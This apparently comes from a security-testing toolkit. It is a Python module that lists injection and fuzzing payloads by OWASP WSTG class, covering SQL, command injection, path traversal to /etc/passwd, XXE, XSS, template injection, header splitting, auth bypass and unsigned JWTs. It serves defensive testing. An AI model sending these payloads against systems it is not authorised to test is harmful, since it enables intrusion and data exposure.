"""Texts that break programs which trust their input, by class, each class with its source.

The classes and their identifiers are those of the OWASP Web Security Testing Guide (WSTG 4.2). The texts are
harmless where they are not understood: they read, wait a moment, or name what does not exist.
"""

from collections.abc import Iterable
from typing import Literal, get_args

import msgspec

from toolkit.config.validation import unknown
from toolkit.errors import UsageError

Kind = Literal[
    "sql", "nosql", "command", "path", "xxe", "xss", "template", "header", "auth", "token", "format", "size"
]


class PayloadSet(msgspec.Struct, frozen=True):
    """One class of attack."""

    source: str
    """Where it is described: an identifier of the WSTG, a CWE."""
    texts: tuple[str, ...]


XML = '<?xml version="1.0"?><!DOCTYPE r [{0}]><r>&x;</r>'

PAYLOADS: dict[Kind, PayloadSet] = {
    "sql": PayloadSet(
        "WSTG-INPV-05, CWE-89",
        (
            "'",
            "' OR '1'='1",
            '" OR "1"="1',
            "') OR ('1'='1",
            "1 OR 1=1",
            "' OR 1=1 --",
            "' UNION SELECT NULL --",
            "' UNION SELECT NULL, NULL, NULL --",
            "'||(SELECT version())||'",
            "'; SELECT pg_sleep(2) --",
            "1; SELECT 1/0 --",
            "\\'; SELECT 1 --",
            "' AND 1=CAST((SELECT current_user) AS int) --",
            "%' AND 1=1 --",
            "x'/**/OR/**/'1'='1",
        ),
    ),
    "nosql": PayloadSet(
        "WSTG-INPV-05.6, CWE-943",
        ('{"$ne": null}', '{"$gt": ""}', '{"$where": "1 == 1"}', "[$ne]=1", "'; return true; var x='"),
    ),
    "command": PayloadSet(
        "WSTG-INPV-12, CWE-78",
        (
            "; id",
            "| id",
            "&& id",
            "`id`",
            "$(id)",
            "; sleep 2",
            "\nid\n",
            "' ; id ; '",
            "& ping -n 1 127.0.0.1 &",
        ),
    ),
    "path": PayloadSet(
        "WSTG-ATHZ-01, CWE-22",
        (
            "../../../../etc/passwd",
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "..%252f..%252fetc%252fpasswd",
            "....//....//....//etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "..%c0%af..%c0%afetc/passwd",
            "../../../../etc/passwd%00.png",
            "/proc/self/environ",
        ),
    ),
    "xxe": PayloadSet(
        "WSTG-INPV-07, CWE-611, CWE-776",
        (
            XML.format('<!ENTITY x SYSTEM "file:///etc/passwd">'),
            XML.format('<!ENTITY x SYSTEM "http://127.0.0.1:1/">'),
            XML.format('<!ENTITY % p SYSTEM "file:///etc/hostname"> %p; <!ENTITY x "y">'),
            XML.format(
                "".join(f'<!ENTITY {n} "&{n}a;&{n}a;"><!ENTITY {n}a "aaaa">' for n in "bcd")
                + '<!ENTITY x "&b;">'
            ),
        ),
    ),
    "xss": PayloadSet(
        "WSTG-INPV-01, WSTG-INPV-02, CWE-79",
        (
            "<script>alert(1)</script>",
            '"><script>alert(1)</script>',
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "';alert(1)//",
            "</textarea><script>alert(1)</script>",
            '<a href="javascript:alert(1)">x</a>',
        ),
    ),
    "template": PayloadSet(
        "WSTG-INPV-18, CWE-1336",
        (
            "{{7*1337}}",
            "${7*1337}",
            "#{7*1337}",
            "<%= 7*1337 %>",
            "{{''.__class__.__mro__}}",
            "%(7*1337)s",
            "{0.__class__}",
        ),
    ),
    "header": PayloadSet(
        "WSTG-INPV-15, CWE-113",
        (
            "x\r\nSet-Cookie: taken=1",
            "x%0d%0aSet-Cookie: taken=1",
            "x\nLocation: http://127.0.0.1/",
            "x\r\n\r\n<html>",
        ),
    ),
    "auth": PayloadSet(
        "WSTG-ATHN-04, CWE-287",
        (
            "admin",
            "admin' --",
            "administrator",
            "root",
            "null",
            "undefined",
            "0",
            "-1",
            "true",
            "' OR '1'='1",
            "*",
        ),
    ),
    "token": PayloadSet(
        "WSTG-SESS-10, CWE-347",
        (
            "",
            " ",
            "null",
            "undefined",
            "0" * 64,
            "A" * 4096,
            "YWRtaW46YWRtaW4=",  # admin:admin, as HTTP's Basic writes it
            "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",  # a JWT that says it needs no signature
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.",
            "..",
        ),
    ),
    "format": PayloadSet(
        "WSTG-INPV-13, CWE-134, CWE-20",
        (
            "%s%s%s%n",
            "%x%x%x",
            "\x00",
            "\ud7ff",
            "\u202e",
            "\ufeff",
            "NaN",
            "Infinity",
            "-0",
            "1e309",
            "0x10",
            "\uff11",
            "\u0663",
        ),
    ),
    "size": PayloadSet(
        "WSTG-BUSL-08, CWE-400",
        ("A" * 10_000, "9" * 400, "[" * 2000, '{"a":' * 1000, "A" * 1_000_000),
    ),
}
"""Class → its texts."""


def payloads(*kinds: str) -> tuple[str, ...]:
    """Return the texts of some classes; none named: of all.

    Raises:
        UsageError: there is no such class; lists them.
    """
    for kind in kinds:
        if kind not in PAYLOADS:
            raise UsageError(unknown("class of payloads", kind, PAYLOADS))
    wanted: Iterable[Kind] = kinds or get_args(Kind)  # type: ignore[assignment]
    return tuple(dict.fromkeys(text for kind in wanted for text in PAYLOADS[kind].texts))


def short(payload: str) -> str:
    """Return a name of a payload for the identity of a test: printable, at most 24 characters."""
    text = payload.encode("unicode_escape").decode("ascii")
    shown = text if len(text) <= 24 else f"{text[:16]}...{len(payload)}"  # noqa: PLR2004 - as the docstring says
    return shown or "empty"
